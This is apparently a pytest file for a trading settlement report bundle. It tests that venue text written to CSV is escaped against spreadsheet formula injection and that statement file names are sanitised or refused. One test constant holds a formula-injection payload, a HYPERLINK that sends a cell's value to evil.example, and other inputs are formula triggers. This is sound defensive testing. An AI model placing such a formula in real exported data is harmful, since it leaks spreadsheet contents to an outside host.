"""The tables of the bundle are opened in spreadsheets, and its papers have the names that people gave them."""

import csv
import io

import pytest

from executor.domain.settlement_events import StatementImported, StatementRow
from executor.errors import InputRefused
from executor.report.bundle import bundle_files
from executor.settlement.statement_file import statements
from tests.domain.events_made import AT, D, created, filled, intended
from tests.report.test_words_held import CASE, PARENT, record

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"T-1")'


def imported(file: str, trade: str = "t", note: str = "") -> StatementImported:
    row = StatementRow(
        trade_id=trade, qty=D(1), px=D(95000), notional=D(95000), fee=D("-0.5"), fee_asset="@USD", at=AT, note=note
    )
    return StatementImported(
        venue="alpha", paper="statement", file=file, sha256="ab" * 32, first_row=1, rows=[row], who="se"
    )


def files(paper: StatementImported, trade: str = "t") -> dict[str, bytes]:
    case = record((PARENT, created()), (PARENT, intended(1, "5")), (PARENT, filled(1, trade, "1")), (CASE, paper))
    return bundle_files(case, {}, {}, {})


def rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode())))


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1", "@x", "\tx"])
def test_no_text_of_a_venue_is_a_formula(text: str) -> None:
    found = files(imported("march.csv", text, "=1+1"), text)
    (fill,) = rows(found["fills.csv"])
    (stated,) = rows(found["statements/alpha-abababababab-march.csv"])
    assert fill["trade_id"] == stated["trade_id"] == f"'{text}"
    assert (stated["note"], stated["fee_asset"]) == ("'=1+1", "'@USD")
    assert (stated["fee"], fill["qty"], fill["venue"]) == ("-0.5", "1", "alpha")


def test_both_readmes_say_so() -> None:
    found = files(imported("march.csv"))
    assert "does not take it for a formula" in " ".join(found["README.en.md"].decode().split())
    assert "以防电子表格将其当作公式运算" in found["README.zh.md"].decode()


@pytest.mark.parametrize(
    ("file", "named"),
    [
        ("statement\nof March.csv", "statement_of_March"),
        ("三月 对账单.csv", "三月_对账单"),
        ("a\u2028b:c\\d.csv", "a_b_c_d"),
        ("x" * 250 + ".csv", "x" * 60),
    ],
)
def test_the_name_of_a_paper_is_one_that_can_be_listed(file: str, named: str) -> None:
    assert f"statements/alpha-abababababab-{named}.csv" in files(imported(file))


@pytest.mark.parametrize("name", ["statement\nof March.csv", "a\x85.csv", "a\udc80.csv"])
def test_a_paper_whose_name_breaks_the_line_is_not_imported(name: str) -> None:
    content = b"trade_id,qty,px,notional,fee,fee_asset,at\nx,1,1,1,0,USD,2026-03-02T01:00:00Z\n"
    with pytest.raises(InputRefused, match="control character"):
        statements(content, name, {}, venue="alpha", paper="statement", who="se")
    assert statements(content, "三月 对账单.csv", {}, venue="alpha", paper="statement", who="se")
